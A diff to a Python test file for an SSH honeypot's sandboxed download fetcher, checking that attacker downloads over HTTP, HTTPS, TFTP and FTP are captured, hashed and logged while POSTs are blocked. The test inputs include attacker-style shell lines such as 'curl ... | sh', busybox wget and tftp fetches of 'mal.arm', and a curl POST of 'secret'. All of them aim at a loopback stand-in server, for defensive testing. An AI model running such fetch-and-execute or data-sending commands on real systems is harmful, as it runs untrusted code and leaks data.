@@ -3,7 +3,7 @@
 The files are served by this test on loopback; fetch.test_address makes that
 server stand in for the whole internet, so no test reaches anything else.
 """
-import hashlib, http.server, os, threading
+import hashlib, http.server, os, pathlib, signal, socket, ssl, struct, subprocess, threading
 
 import pytest
 
@@ -100,6 +100,115 @@ def test_a_download_is_on_the_disk_and_one_artefact(online, server):
                        ("Accept-Encoding", "identity"), ("Connection", "Keep-Alive")]
 
 
+def test_curl_into_a_file_a_pipe_and_a_variable(online, server):
+    for i, line in enumerate(["curl -s {} -o /tmp/c", "curl -s {} > /tmp/c2", "curl -s {} | sh >/dev/null",
+                              "x=$(curl -fsSL {})", "busybox wget -q -O /tmp/c3 {}", "curl -s {} | head -c 9"]):
+        url = f"http://{HOST}:80{i + 1:02}/tool.sh"
+        online.ssh(line.format(url))
+        e = of_url(online, url)
+        assert e["eventid"] == "cowrie.session.file_download" and e["shasum"] == SHA, line
+        assert [a["session"] for a in online.events("qrassh.artefact", url=url)] == [e["session"]], line
+        assert len([a for a in online.events("qrassh.artefact", session=e["session"])]) == 1, line
+    sent = {dict(h)["Host"][-4:]: h for _, _, h in server.seen if dict(h)["Host"].startswith(HOST + ":")}
+    assert sent["8001"] == [("Host", f"{HOST}:8001"), ("User-Agent", "curl/7.88.1"), ("Accept", "*/*")]
+    assert sent["8005"] == [("Host", f"{HOST}:8005"), ("User-Agent", "Wget"), ("Connection", "close")]
+
+
+def test_only_get_and_head_are_carried_out(online, server):
+    url = f"http://{HOST}/post"
+    before = len(server.seen)
+    online.ssh(f"curl -s -m 2 -d secret {url}")
+    assert of_url(online, url)["error"] == "not carried out: method"
+    assert len(server.seen) == before
+
+
+def test_tftp():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+
+        def answer():
+            request, peer = s.recvfrom(2048)
+            assert request == b"\0\1mal.arm\0octet\0", request
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as t:
+                t.bind(("127.0.0.1", 0))
+                for i in range(0, len(BODY) // 512 + 1):
+                    t.sendto(struct.pack("!HH", 3, i + 1) + BODY[512 * i:512 * i + 512], peer)
+                    assert t.recv(64) == struct.pack("!HH", 4, i + 1)
+
+        thread = threading.Thread(target=answer, daemon=True)
+        thread.start()
+        with Honeypot(fetch_mode="on", fetch_test_address=f"127.0.0.1:{port}") as pot:
+            r = pot.ssh(f"cd /tmp; busybox tftp -g -r mal.arm {HOST}; sha256sum mal.arm")
+            assert SHA.encode() in r.stdout, r
+            assert of_url(pot, f"tftp://{HOST}/mal.arm")["shasum"] == SHA
+        thread.join(10)
+
+
+def ftp_server(control, data, seen):
+    c, _ = control.accept()
+    f = c.makefile("rwb", buffering=0)
+    say = lambda text: f.write(text.encode() + b"\r\n")
+    say("220 ready")
+    while line := f.readline().decode().strip():
+        seen.append(line)
+        verb = line.split()[0]
+        if verb == "RETR":
+            say("150 here it comes")
+            d, _ = data.accept()
+            d.sendall(BODY)
+            d.close()
+            say("226 done")
+        else:
+            say({"USER": "331 password?", "PASS": "230 in", "PWD": '257 "/"', "TYPE": "200 ok",
+                 "SIZE": f"213 {len(BODY)}", "EPSV": f"229 (|||{data.getsockname()[1]}|)",
+                 "CWD": "250 ok", "QUIT": "221 bye"}.get(verb, "502 no"))
+    c.close()
+
+
+def test_ftp():
+    control, data = socket.create_server(("127.0.0.1", 0)), socket.create_server(("127.0.0.1", 0))
+    seen = []
+    threading.Thread(target=ftp_server, args=(control, data, seen), daemon=True).start()
+    places = " ".join(f"127.0.0.1:{s.getsockname()[1]}" for s in (control, data))
+    with Honeypot(fetch_mode="on", fetch_test_address=places) as pot:
+        r = pot.ssh(f"cd /tmp; busybox ftpget -u bob -p pw {HOST} got remote.bin; sha256sum got")
+        assert SHA.encode() in r.stdout, (r, seen)
+        assert "USER bob" in seen and "RETR remote.bin" in seen
+        url = f"ftp://bob:pw@{HOST}/remote.bin"
+        assert of_url(pot, url)["shasum"] == SHA
+
+
+def test_tls_is_checked_unless_told_otherwise(tmp_path):
+    pem = tmp_path / "both.pem"
+    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=x",
+                    "-keyout", tmp_path / "key", "-out", tmp_path / "cert"], check=True, capture_output=True)
+    pem.write_bytes((tmp_path / "key").read_bytes() + (tmp_path / "cert").read_bytes())
+    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    tls.load_cert_chain(pem)
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    server.seen = []
+    server.socket = tls.wrap_socket(server.socket, server_side=True)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    with Honeypot(fetch_mode="on", fetch_test_address=f"127.0.0.1:{server.server_port}") as pot:
+        url = f"https://{HOST}/tool.sh"
+        r = pot.ssh(f"curl -s {url}?1; echo status $?; curl -sk {url} | sha256sum")
+        assert b"status 60\n" in r.stdout and SHA.encode() in r.stdout, r
+        assert of_url(pot, url)["shasum"] == SHA
+        assert of_url(pot, url + "?1")["eventid"] == "cowrie.session.file_download.failed"
+    server.shutdown()
+
+
+def test_the_fetcher_is_walled_in(online):
+    pid = int(online.wait_log(r"fetcher 0: started \(pid (\d+)\)")[1])
+    status = dict(l.split(":", 1) for l in open(f"/proc/{pid}/status").read().splitlines())
+    assert status["Seccomp"].strip() == "2" and status["NoNewPrivs"].strip() == "1"
+    if os.getuid() == 0:
+        assert set(status["Uid"].split()) != {"0"} and os.readlink(f"/proc/{pid}/root").endswith("/resolver")
+        assert [str(p.relative_to(f"/proc/{pid}/root")) for p in
+                pathlib.Path(f"/proc/{pid}/root/").rglob("*") if p.is_file()] in ([], ["etc/resolv.conf"])
+
+
 def test_a_name_needs_no_name_server_here(online):
     url = "http://dl.example.com/tool.sh?named"
     online.ssh(f"wget -T 3 -t 1 -O /dev/null {url}")
@@ -153,7 +262,6 @@ def test_off_records_nothing(server):
 
 
 def test_the_fetcher_may_die(server):
-    import signal
     with Honeypot(fetch_mode="on", fetch_test_address=f"127.0.0.1:{server.server_port}") as pot:
         pid = int(pot.wait_log(r"fetcher 0: started \(pid (\d+)\)")[1])
         os.kill(pid, signal.SIGKILL)
